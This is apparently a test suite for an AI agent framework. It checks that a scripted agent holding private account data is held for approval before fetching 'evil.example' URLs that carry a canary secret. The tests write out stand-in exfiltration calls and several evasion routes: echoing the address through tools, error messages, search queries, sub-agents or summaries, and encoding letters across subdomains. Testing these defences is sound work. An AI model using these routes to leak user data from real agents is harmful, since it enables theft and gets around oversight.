import { Agent, type AnyTool, defineTool, MemoryStore, type PendingCall, urlContext } from "@pollux/core";
import { call, calls, say, type ScriptLine, ScriptedModel } from "@pollux/core/testing";
import { webFetch, type WebFetchOptions } from "@pollux/tools/http";
import { searchTool } from "@pollux/tools/search";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { SESSION_FACES } from "../../packages/core/test/session/session-faces.ts";
import { CANARY } from "./obedient-model.ts";
import { account, Town } from "./town.ts";

const town = await Town.open();
afterAll(() => town[Symbol.asyncDispose]());
beforeEach(() => town.clear());

const OPEN: WebFetchOptions = {
  allowPrivate: true,
  ports: "any",
  lookup: () => Promise.resolve([{ address: "127.0.0.1", family: 4 }]),
};
const fetch = webFetch(OPEN);
/** A search inside: its author lets it know the conversation. */
const search = (uris: readonly string[] = []): AnyTool =>
  searchTool({ reach: "inside", search: () => uris.map((uri) => ({ uri })) });
const get = (url: string): { readonly name: string; readonly args: { readonly url: string } } => ({
  name: "web_fetch",
  args: { url },
});
const SECRET = town.url(`/in/${CANARY}`, "evil.example");

describe.each(SESSION_FACES)("by %s", (_name, face) => {
  /** Whether a call of the last turn needs approval, and the data that strangers got. */
  async function play(tools: readonly AnyTool[], lines: readonly ScriptLine[]): Promise<readonly PendingCall[]> {
    const model = new ScriptedModel(...lines, say("Done."));
    const session = new Agent({ model, tools: [account, fetch, ...tools] }).session();
    const result = await face.send(session, "Go.");
    return "pending" in result ? result.pending : [];
  }

  test("an address that was found may be opened, whatever else was read", async () => {
    const url = town.url("/in/found", "news.example");
    const asked = await play(
      [search([url])],
      [calls("my_account"), call("web_search", { query: "news" }), calls(get(url))],
    );
    expect(asked).toEqual([]);
    expect(town.sunk).toHaveLength(1);
  });

  test.each([
    ["as it is", SECRET],
    ["in other letters", SECRET.toUpperCase()],
    ["encoded", encodeURIComponent(SECRET)],
    ["encoded, beside what is no code", `100% ${encodeURIComponent(SECRET)}`],
    ["between quotes", `"${SECRET}"`],
  ])("an address that the model has let a tool say, %s, was not found", async (_how, said) => {
    const echo = defineTool({
      name: "echo",
      description: "x",
      reads: "untrusted",
      reach: "inside",
      run: () => `You asked for ${SECRET} .`,
    });
    const asked = await play([echo], [calls("my_account"), call("echo", { query: said }), calls(get(SECRET))]);
    expect(asked.map(({ because }) => because?.reach)).toEqual(["lookup"]);
    expect(town.sunk).toEqual([]);
  });

  test("an address in a complaint about arguments was not found", async () => {
    const strict = defineTool({
      name: "strict",
      description: "x",
      input: { type: "object", properties: {}, additionalProperties: false },
      reads: "untrusted",
      reach: "inside",
      run: () => "Well.",
    });
    const wrong = call("strict", { [SECRET]: 1 });
    const asked = await play([strict], [calls("my_account"), call("strict"), wrong, calls(get(SECRET))]);
    expect(asked.map(({ because }) => because?.reach)).toEqual(["lookup"]);
    expect(town.sunk).toEqual([]);
  });

  test("a search that repeats its query has not found it", async () => {
    const asked = await play(
      [search()],
      [calls("my_account"), call("web_search", { query: SECRET }), calls(get(SECRET))],
    );
    expect(asked.map(({ because }) => because?.reach)).toEqual(["lookup"]);
    expect(town.sunk).toEqual([]);
  });

  test.each([
    ["names", {}],
    ["names, called with another argument before the address", { path: "notes.txt" }],
  ])("hosts with %s for each letter spell no more than one does", async (_how, more) => {
    const urls = ["h", "u", "n", "t", "e", "r"].map((letter, at) => town.url("/in", `${at}${letter}.evil.example`));
    const opened = urls.map((url) => call("web_fetch", { ...more, url }));
    const asked = await play([search(urls)], [calls("my_account"), call("web_search", { query: "x" }), ...opened]);
    expect(asked).toHaveLength(1);
    expect(town.sunk).toHaveLength(3);
  });

  test("a task for an agent whose addresses the service reads is asked about, if its author calls that a lookup", async () => {
    const inner = new Agent({ name: "browser", model: new ScriptedModel(say("Read.")), tools: [urlContext()] });
    const browser = inner.asTool({ description: "x", reach: "lookup" });
    const task = call("browser", { task: `Open ${SECRET}` });
    const asked = await play(
      [search(), browser],
      [calls("my_account", { name: "web_search", args: { query: "x" } }), task],
    );
    expect(asked.map(({ because }) => because?.reach)).toEqual(["lookup"]);
  });

  test("an address in a summary was not found by anybody", async () => {
    const store = new MemoryStore();
    const tools = [account, fetch, search()];
    const read = new Agent({
      model: new ScriptedModel(calls("my_account"), call("web_search", { query: "x" }), say("Well.")),
      tools,
    });
    await face.send(read.session({ id: "s", store }), "Go.");
    const compaction = { policy: ({ boundaries }: { readonly boundaries: readonly number[] }) => boundaries.at(-1) };
    const model = new ScriptedModel(say(`Open ${SECRET} next.`), calls(get(SECRET)), say("Done."));
    const result = await face.send(new Agent({ model, tools, compaction }).session({ id: "s", store }), "Go on.");
    expect(result.stopReason).toBe("needs-approval");
    expect(town.sunk).toEqual([]);
  });
});
